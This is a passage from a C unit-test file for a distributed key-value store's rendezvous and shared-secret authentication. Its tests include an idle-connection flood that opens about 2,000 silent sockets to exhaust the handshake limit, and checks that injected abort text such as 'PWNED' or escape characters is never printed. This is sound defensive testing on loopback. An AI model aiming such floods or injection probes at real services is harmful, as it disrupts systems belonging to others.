		for (int r = 0; r < 2; r++)
			rv_collect(pids[r], fds[r], r, &res[r]);
		CU_ASSERT((gx_now_ns() - t0) / 1000000 < 4000);
		fprintf(stderr, "\n    rank 0 says: %s", res[0].msg);
		for (int r = 0; r < 2; r++) {
			CU_ASSERT(res[r].st < 0);
			CU_ASSERT_PTR_NOT_NULL(strstr(res[r].msg, cases[k].want));
			CU_ASSERT_PTR_NULL(strstr(res[r].msg, "PWNED"));
			CU_ASSERT_PTR_NULL(strchr(res[r].msg, '\033'));
		}
		store_proc_stop(&sp);
	}
	/* with the job's secret the outsider does not get in at all, and the ranks meet */
	store_proc_start(&sp, &with);
	for (int r = 0; r < 3; r++)
		pids[r] = rv_spawn(sp.addr, r, 3, r == 2 ? 600 : 0, 8000, SECRET_A, &fds[r]);
	sleep_ms(300);
	struct gx_store *c = NULL;
	CU_ASSERT_EQUAL(gx_store_connect(sp.addr, "", 2000, &c), GX_ERR_INVAL);
	CU_ASSERT_EQUAL(gx_store_connect(sp.addr, SECRET_B, 2000, &c), GX_ERR_INVAL);
	for (int r = 0; r < 3; r++) {
		rv_collect(pids[r], fds[r], r, &res[r]);
		if (res[r].st != GX_OK)
			fprintf(stderr, "\n    rank %d: %s", r, res[r].msg);
		CU_ASSERT_EQUAL(res[r].st, GX_OK);
	}
	struct gx_store_server_stats st;
	store_proc_stats(&sp, &st);
	CU_ASSERT_EQUAL(st.refused_secret, 2);
	store_proc_stop(&sp);
}

static void test_rv_wrong_secret(void)
{
	/* rank 2 has another secret: it says so at once; ranks 0 and 1 name it after their timeout */
	struct gx_store_server_opts with = { .secret = SECRET_A };
	struct store_proc sp;
	struct rv_result res[3];
	pid_t pids[3];
	int fds[3];

	store_proc_start(&sp, &with);
	for (int r = 0; r < 3; r++)
		pids[r] = rv_spawn(sp.addr, r, 3, 0, 1000, r == 2 ? SECRET_B : SECRET_A, &fds[r]);
	for (int r = 0; r < 3; r++)
		rv_collect(pids[r], fds[r], r, &res[r]);
	fprintf(stderr, "\n    rank 2 says: %s\n    rank 0 says: %s\n", res[2].msg, res[0].msg);
	CU_ASSERT(res[2].st < 0);
	CU_ASSERT_PTR_NOT_NULL(strstr(res[2].msg, "refused our secret: is GX_STORE_SECRET the same on every rank"));
	for (int r = 0; r < 2; r++) {
		CU_ASSERT(res[r].st < 0);
		CU_ASSERT_PTR_NOT_NULL(strstr(res[r].msg, "rank 2 of 3 never joined the store"));
	}
	store_proc_stop(&sp);
}

/* Thousands of connections that never say a word, opened before the ranks start. */
static void rv_flood(const char *secret)
{
	struct gx_store_server_opts o = { .secret = secret };
	struct gx_store_server_stats st;
	struct store_proc sp;
	struct rv_result res[3];
	pid_t pids[3];
	int fds[3], want = 2000;

	/* ours, and the store process's (it inherits the limit): theirs and the accepted ends */
	rlim_t lim = fd_limit((rlim_t)want + 2048);
	if (lim < (rlim_t)want + 1400) {
		want = (int)lim - 1400;
		fprintf(stderr, "\n    descriptor limit %llu: %d idle connections", (unsigned long long)lim, want);
		CU_ASSERT_FATAL(want >= 1100);    /* more than the store's handshake limit (1024) */
	}
	store_proc_start(&sp, &o);
	int *idle = malloc((size_t)want * sizeof(*idle));
	CU_ASSERT_PTR_NOT_NULL_FATAL(idle);
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(sp.port),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	for (int i = 0; i < want; i++) {
		idle[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (idle[i] >= 0 && connect(idle[i], (struct sockaddr *)&sa, sizeof(sa)) < 0 &&
		    errno != EINPROGRESS) {
			close(idle[i]);
			idle[i] = -1;
		}
	}
	/* wait until the store holds all the handshakes it allows */
	uint64_t until = gx_now_ns() + 3000000000ull;
	do {
		sleep_ms(20);
		store_proc_stats(&sp, &st);
	} while (st.pending < 1024 && gx_now_ns() < until);
	CU_ASSERT_EQUAL(st.pending, 1024);
	uint64_t t0 = gx_now_ns();
	for (int r = 0; r < 3; r++)
		pids[r] = rv_spawn(sp.addr, r, 3, 0, 10000, secret, &fds[r]);
	for (int r = 0; r < 3; r++)
		rv_collect(pids[r], fds[r], r, &res[r]);
	uint64_t dt = (gx_now_ns() - t0) / 1000000;
	store_proc_stats(&sp, &st);
	fprintf(stderr, "\n    %s: %d idle connections; rendezvous of 3 in %llu ms; the store accepted "
		"%llu, dropped %llu handshakes for newer ones, timed out %llu, authenticated %llu",
		secret[0] ? "secret" : "no secret", want, (unsigned long long)dt,
		(unsigned long long)st.accepted, (unsigned long long)st.evicted,
		(unsigned long long)st.handshake_timeouts, (unsigned long long)st.authenticated);
	for (int r = 0; r < 3; r++) {
		if (res[r].st != GX_OK)
			fprintf(stderr, "\n    rank %d: %s", r, res[r].msg);
		CU_ASSERT_EQUAL(res[r].st, GX_OK);
		CU_ASSERT_PTR_NULL(strstr(res[r].msg, "exit?"));
	}
	CU_ASSERT(st.evicted > 0);            /* the flood was real, and shed */
	CU_ASSERT(st.authenticated >= 3);
	for (int i = 0; i < want; i++)
		if (idle[i] >= 0)
			close(idle[i]);
	free(idle);
	store_proc_stop(&sp);
}

static void test_rv_idle_flood(void)
{
	rv_flood(SECRET_A);
	rv_flood("");
}

static CU_TestInfo store_tests[] = {
	{ "set/get/add", test_set_get_add },
	{ "wait: missing keys, late keys, abort key", test_wait },
	{ "many clients", test_many_clients },
	{ "bad clients are dropped, others served", test_bad_clients },
	{ "connect: timeout, back-off finds a late store, bad addresses", test_connect_backoff },
	{ "store killed while a client waits", test_store_dies },
	{ "secret: another one refused, counted, nothing acted on", test_secret_refused },
	{ "secret: store with, client without, and the reverse; an impostor", test_secret_mismatch },
	{ "secret: bad values are bad settings; gx-store flags and address", test_secret_settings },
	{ "limits: key, value, keys, bytes, clients, buffers", test_limits },
	{ "timeouts: handshake, half frame, idle (client reconnects)", test_timeouts },
	{ "400 half-sent 1 MiB frames: memory bounded", test_half_frames },
	{ "a signal ends a wait and the connect retries", test_interrupted },
	CU_TEST_INFO_NULL,
};

static CU_TestInfo boot_tests[] = {
	{ "rank/size from flags, GX_*, Slurm, Open MPI, PMI", test_bootstrap_env },
	CU_TEST_INFO_NULL,
};

static CU_TestInfo rv_tests[] = {
	{ "4 ranks, one late", test_rv_ok_and_late },
	{ "missing rank is named after the timeout", test_rv_missing_rank },
	{ "wrong world size", test_rv_wrong_size },
	{ "store killed mid-rendezvous", test_rv_store_dies },
	{ "duplicate rank", test_rv_duplicate_rank },
	{ "abort key written by an outsider: no text printed; secret keeps it out", test_rv_abort_injection },
	{ "a rank with another secret", test_rv_wrong_secret },
	{ "2,000 idle connections do not lock out 3 ranks", test_rv_idle_flood },
	CU_TEST_INFO_NULL,
};

int main(void)
{
	CU_SuiteInfo suites[] = {
		{ "store", NULL, NULL, NULL, NULL, store_tests },
		{ "bootstrap", NULL, NULL, NULL, NULL, boot_tests },
		{ "rendezvous", NULL, NULL, NULL, NULL, rv_tests },
		CU_SUITE_INFO_NULL,
	};
	signal(SIGPIPE, SIG_IGN);
	return gx_test_main(suites);
}
